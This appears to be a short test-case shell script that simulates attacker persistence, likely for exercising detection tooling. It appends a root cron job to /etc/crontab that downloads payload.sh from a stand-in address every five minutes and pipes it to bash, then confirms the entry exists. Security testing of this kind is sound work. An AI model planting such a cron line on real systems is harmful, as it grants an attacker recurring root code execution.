#!/bin/sh
. /opt/case/case.sh

echo '*/5 * * * * root (curl -s http://203.0.113.10/payload.sh || wget -q -O- http://203.0.113.10/payload.sh) | bash' | tee -a /etc/crontab >/dev/null
grep -q payload /etc/crontab
took_place
